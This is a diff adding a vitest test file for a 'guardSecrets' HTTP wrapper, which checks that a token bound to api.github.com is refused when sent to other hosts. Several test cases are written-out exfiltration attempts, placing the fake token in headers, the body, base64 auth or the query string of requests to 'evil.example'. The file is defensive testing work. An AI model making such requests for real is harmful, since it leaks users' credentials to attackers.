@@ -1,0 +1,59 @@
+import { describe, expect, it } from 'vitest'
+import type { HttpRequest } from '#core/components/context'
+import { guardSecrets } from '../../../worker/services/runner/guard-secrets'
+
+const TOKEN = 'ghp-0815-very-secret'
+
+function sender(hosts: Record<string, string[]>) {
+  const sent: HttpRequest[] = []
+  const send = guardSecrets(
+    async (request) => {
+      sent.push(request)
+      return { kind: 'response', status: 200, headers: {}, text: '', durationMs: 1 }
+    },
+    { values: { TOKEN }, hosts },
+  )
+  const call = (url: string, more: Partial<HttpRequest> = {}) =>
+    send({ url, method: 'POST', headers: {}, body: null, timeoutMs: 1_000, ...more })
+  return { call, sent }
+}
+
+const bound = { TOKEN: ['api.github.com'] }
+
+describe('a secret bound to hosts', () => {
+  it.each([
+    ['a header', { headers: { authorization: `Bearer ${TOKEN}` } }],
+    ['the body', { body: JSON.stringify({ token: TOKEN }) }],
+    ['a header in base64', { headers: { authorization: `Basic ${btoa(`user:${TOKEN}`)}` } }],
+  ])('in %s never leaves for another host', async (_place, parts) => {
+    const { call, sent } = sender(bound)
+    const answer = await call('https://evil.example/x', parts)
+    expect(answer).toMatchObject({ kind: 'failed', failure: { code: 'secret_host_denied' }, retryable: false })
+    expect(JSON.stringify(answer)).not.toContain(TOKEN)
+    expect(sent).toEqual([])
+  })
+
+  it('in the address never leaves for another host', async () => {
+    const { call, sent } = sender(bound)
+    expect((await call(`https://evil.example/?t=${TOKEN}`)).kind).toBe('failed')
+    expect(sent).toEqual([])
+  })
+
+  it('reaches its own host, and no redirect takes it elsewhere', async () => {
+    const { call, sent } = sender(bound)
+    await call('https://api.github.com/x', { headers: { authorization: `Bearer ${TOKEN}` } })
+    expect(sent).toMatchObject([{ staysOnHost: true }])
+  })
+
+  it('leaves requests that do not carry it alone', async () => {
+    const { call, sent } = sender(bound)
+    await call('https://other.example/x', { body: 'hello' })
+    expect(sent[0]?.staysOnHost).toBeUndefined()
+  })
+
+  it('is free when it is bound to none', async () => {
+    const { call, sent } = sender({})
+    await call('https://other.example/x', { body: TOKEN })
+    expect(sent).toHaveLength(1)
+  })
+})
